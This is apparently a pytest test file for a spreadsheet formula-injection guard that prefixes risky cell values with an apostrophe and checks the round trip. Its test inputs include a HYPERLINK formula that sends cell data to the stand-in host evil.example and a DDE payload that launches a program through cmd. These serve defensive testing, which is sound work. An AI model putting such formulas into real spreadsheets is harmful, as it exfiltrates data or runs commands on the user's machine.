import pytest
from hypothesis import given
from hypothesis import strategies as st

from barun.landmarks.formats.spreadsheet_text import shielded, unshielded

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.mark.parametrize(
    "words", [FORMULA, "+A1", "-2+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "＝1", "-"]
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(words: str) -> None:
    assert shielded(words) == f"'{words}"


@pytest.mark.parametrize(
    "words", ["", "walk.mp4", "걷기.mp4", "'quoted'", "P1", "a=b", "-1", "+0.5"]
)
def test_all_else_stays(words: str) -> None:
    assert shielded(words) == unshielded(words) == words


@given(st.text(st.sampled_from("'=+-@ab\t＝"), max_size=6) | st.text())
def test_what_is_written_is_read_again(words: str) -> None:
    assert unshielded(shielded(words)) == words
    assert not shielded(words).startswith(("=", "@", "+a", "-a", "+=", "-@"))
